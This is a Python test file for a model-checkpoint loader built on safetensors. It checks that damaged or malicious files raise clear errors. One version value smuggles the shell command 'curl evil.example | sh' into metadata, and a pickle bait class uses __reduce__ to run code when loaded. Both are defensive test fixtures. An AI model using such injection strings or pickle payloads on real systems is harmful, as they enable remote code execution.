"""A tensor file comes back whole, or as one error that names the file."""

import hashlib
import json
import os
import pickle
from pathlib import Path

import numpy as np
import pytest
from safetensors.numpy import load_file
from safetensors.numpy import save as to_safetensors

from charlm.errors import CheckpointError, ConfigError
from charlm.files import tensor_file
from charlm.files.tensor_file import FileKind, check_replaceable, open_tensor_file, save

KIND = FileKind(key="kind", name="a kind of model", format=1, cure="make one", repair="mend it")
ARRAYS = {"weights": np.arange(6, dtype=np.float32).reshape(2, 3), "raw": np.zeros(3, np.uint8)}


@pytest.fixture
def path(tmp_path):
    return tmp_path / "a.safetensors"


@pytest.fixture
def saved(path):
    save(path, KIND, {"note": "hello"}, ARRAYS)
    return path


def load(path, kind=KIND):
    with open_tensor_file(path, kind) as file:
        arrays = file.arrays()
        file.check_digest(arrays)
        return file.metadata, arrays


def header_and_data(path):
    data = path.read_bytes()
    length = int.from_bytes(data[:8], "little")
    return json.loads(data[8 : 8 + length]), data[8 + length :]


def rewrite(path, change):
    """Change the header of a file, or its data, without a new hash."""
    header, data = header_and_data(path)
    data = change(header, data) or data
    text = json.dumps(header).encode()
    path.write_bytes(len(text).to_bytes(8, "little") + text + data)


def metadata_as(text):
    return lambda header, data: header["__metadata__"].update(kind=text)


def with_metadata(**changes):
    def change(header, data):
        metadata = json.loads(header["__metadata__"]["kind"])
        header["__metadata__"]["kind"] = json.dumps({**metadata, **changes})

    return change


def with_tensor(name, **changes):
    return lambda header, data: header[name].update(changes)


def test_metadata_and_tensors_come_back(saved):
    metadata, arrays = load(saved)

    assert (metadata["note"], metadata["format"]) == ("hello", 1)
    assert arrays.keys() == ARRAYS.keys()
    assert all((arrays[name] == ARRAYS[name]).all() for name in ARRAYS)
    rewrite(saved, lambda header, data: None)
    load(saved)


def test_the_same_contents_make_the_same_file(saved):
    other = saved.with_name("other")
    save(other, KIND, {"note": "hello"}, ARRAYS)

    assert saved.read_bytes() == other.read_bytes()


def test_any_tool_that_knows_safetensors_opens_it(saved):
    assert load_file(saved)["weights"].shape == (2, 3)


def test_a_missing_file_is_an_error_with_the_cure(path):
    with pytest.raises(CheckpointError, match="there is no model at") as caught:
        load(path)

    assert caught.value.hint == "make one"


def test_every_truncation_is_an_error(saved):
    data = saved.read_bytes()
    for length in range(len(data)):
        saved.write_bytes(data[:length])
        with pytest.raises(CheckpointError):
            load(saved)


def test_a_flip_of_any_bit_is_an_error(saved):
    data = bytearray(saved.read_bytes())
    for position in range(len(data)):
        data[position] ^= 1 << position % 8
        saved.write_bytes(data)
        with pytest.raises(CheckpointError):
            load(saved)
        data[position] ^= 1 << position % 8


MUTATIONS = {
    "no metadata": lambda header, data: header.pop("__metadata__") and data,
    "metadata that is not JSON": metadata_as("{"),
    "metadata that is a list": metadata_as("[1, 2]"),
    "a duplicate key": metadata_as('{"format": 1, "format": 1}'),
    "metadata that is deep": metadata_as("[" * 100_000),
    "NaN": metadata_as('{"format": NaN}'),
    "an infinite number": metadata_as('{"format": 1e999}'),
    "no format": metadata_as("{}"),
    "a format that is a list": with_metadata(format=[1]),
    "a format that is a text": with_metadata(format="1"),
    "a format that is true": with_metadata(format=True),
    "a fraction of a format": with_metadata(format=1.0),
    "format 0": with_metadata(format=0),
    "other metadata": with_metadata(note="goodbye"),
    "a hash of something else": with_metadata(sha256=hashlib.sha256(b"").hexdigest()),
    "no hash": with_metadata(sha256=None),
    "a missing tensor": lambda header, data: header.pop("raw") and data,
    "a tensor of another type": with_tensor("weights", dtype="I32"),
    "a tensor of another shape": with_tensor("weights", shape=[3, 2]),
    "a tensor with too many dimensions": with_tensor("raw", shape=[3] + [1] * 70),
    "an offset beyond the end": with_tensor("weights", data_offsets=[0, 1 << 60]),
    "negative offsets": with_tensor("weights", data_offsets=[-4, 0]),
    "data without a name": lambda header, data: data + b"more",
}


def test_a_false_header_is_an_error_on_one_line(saved):
    good = saved.read_bytes()
    for name, change in MUTATIONS.items():
        saved.write_bytes(good)
        rewrite(saved, change)
        with pytest.raises(CheckpointError) as caught:
            load(saved)
            pytest.fail(name)
        assert "\n" not in caught.value.message, name
        assert caught.value.hint in (KIND.repair, KIND.cure), name


def test_a_newer_format_needs_a_newer_charlm(saved):
    rewrite(saved, with_metadata(format=2))
    with pytest.raises(
        CheckpointError, match=r"has format 2; this charlm reads format 1$"
    ) as caught:
        load(saved)

    assert caught.value.hint == "upgrade charlm"


@pytest.mark.parametrize(
    ("version", "hint"),
    [
        ("0.1.0", "use the charlm that wrote it, 0.1.0, or train again"),
        ("1.0.0rc1+local", "use the charlm that wrote it, 1.0.0rc1+local, or train again"),
        ("0.1.0; curl evil.example | sh", "train again"),
        (None, "train again"),
    ],
)
def test_an_older_format_needs_the_charlm_that_wrote_it(path, version, hint):
    save(path, KIND, {"version": version}, ARRAYS)
    newer = FileKind(key="kind", name="a kind of model", format=3, cure="", repair="")
    with pytest.raises(
        CheckpointError, match=r"has format 1; this charlm reads format 3$"
    ) as caught:
        load(path, newer)

    assert caught.value.hint == hint


def test_metadata_is_at_most_32_levels_deep(path):
    for depth in (31, 32):
        save(path, KIND, {"deep": json.loads("[" * depth + "]" * depth)}, ARRAYS)
        if depth == 31:
            load(path)
    with pytest.raises(CheckpointError, match="nested more than 32 deep"):
        load(path)


def test_a_file_of_another_kind_is_an_error(saved):
    other = FileKind(key="other", name="a state", format=1, cure="", repair="")
    for read in (load, check_replaceable):
        with pytest.raises(CheckpointError, match="is a safetensors file, but not a state"):
            read(saved, other)
    check_replaceable(saved, KIND)


def test_a_damaged_file_may_be_replaced(saved):
    saved.write_bytes(saved.read_bytes()[:-1])

    check_replaceable(saved, KIND)


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (pickle.dumps({"a": 1}), "is a Python pickle, not a kind of model"),
        (to_safetensors({"a": np.zeros(3, np.float32)}), "is a safetensors file, but not a kind"),
        (b"", "is empty, not a kind of model"),
        (b"Once upon a time there was a text.", "is text, not a kind of model"),
        ((1 << 62).to_bytes(8, "little") + b"{}", "damaged: its header claims 4,611,686,018,427"),
    ],
    ids=["pickle", "safetensors", "empty", "text", "header"],
)
def test_a_file_of_another_type_is_named(path, data, message):
    path.write_bytes(data)
    with pytest.raises(CheckpointError, match=message):
        load(path)


def test_a_pickle_is_never_run(path):
    class Bait:
        def __reduce__(self):
            return (open, (str(path.with_name("eaten")), "w"))

    path.write_bytes(pickle.dumps(Bait()))
    with pytest.raises(CheckpointError):
        load(path)

    assert not path.with_name("eaten").exists()


def test_the_length_of_a_header_may_look_like_a_pickle(path):
    """Lengths of 640, 896, 1,152 and 1,408 begin with the bytes of pickles."""
    for pad in range(0, 1024, 8):
        save(path, KIND, {"note": "x" * pad}, ARRAYS)
        load(path)
        if path.read_bytes()[:2] in (b"\x80\x03", b"\x80\x04", b"\x80\x05"):
            return
    pytest.fail("no header had such a length")


@pytest.mark.skipif(not os.path.exists("/dev/zero"), reason="the system has no /dev/zero")
def test_a_device_or_directory_is_not_read(tmp_path):
    for path, kind in ((tmp_path, "a directory"), (Path("/dev/zero"), "not a regular file")):
        with pytest.raises(CheckpointError, match=f"is {kind}"):
            load(path)


def test_a_name_that_is_too_long_is_an_error(tmp_path):
    with pytest.raises(CheckpointError, match="cannot be read: File name too long"):
        load(tmp_path / ("long" * 100))


def test_a_file_larger_than_the_memory_is_not_read(saved, monkeypatch):
    monkeypatch.setattr(tensor_file, "_memory", lambda: 100)
    with pytest.raises(CheckpointError, match="bytes, more than this machine's memory"):
        load(saved)


def test_files_have_no_size_limit_if_the_memory_is_unknown(saved, monkeypatch):
    monkeypatch.delattr("os.sysconf", raising=False)

    load(saved)


def test_a_header_too_large_to_be_read_is_not_written(path, monkeypatch):
    monkeypatch.setattr(tensor_file, "LARGEST_HEADER", 100)
    with pytest.raises(CheckpointError, match="the vocabulary is too large for") as caught:
        save(path, KIND, {}, ARRAYS)

    assert caught.value.hint == "lower --vocab-size"
    assert not path.exists()


def test_tensors_with_a_prefix_are_a_file_in_the_file(path):
    save(path, KIND, {}, {"output.weight": ARRAYS["weights"], "output.raw": ARRAYS["raw"]})
    with open_tensor_file(path, KIND) as file:
        output = file.within("output.", {"step": 1})
        assert (output.names, output.metadata) == ({"weight", "raw"}, {"step": 1})
        assert output.kind("weight") == ("F32", (2, 3))
        assert (output.arrays()["weight"] == file.array("output.weight")).all()
        assert output.bytes("raw").tolist() == [0, 0, 0]
        assert output.bytes("nothing").tolist() == []
        with pytest.raises(ConfigError, match="weight is not a sequence of bytes"):
            output.bytes("weight")
        with pytest.raises(ConfigError, match="its entry 'output' is not a JSON object"):
            file.within("output.", [])


def test_a_config_error_inside_the_block_is_damage(saved):
    with (
        pytest.raises(CheckpointError, match=r"a\.safetensors is damaged: odd") as caught,
        open_tensor_file(saved, KIND),
    ):
        raise ConfigError("odd")

    assert caught.value.hint == "mend it"
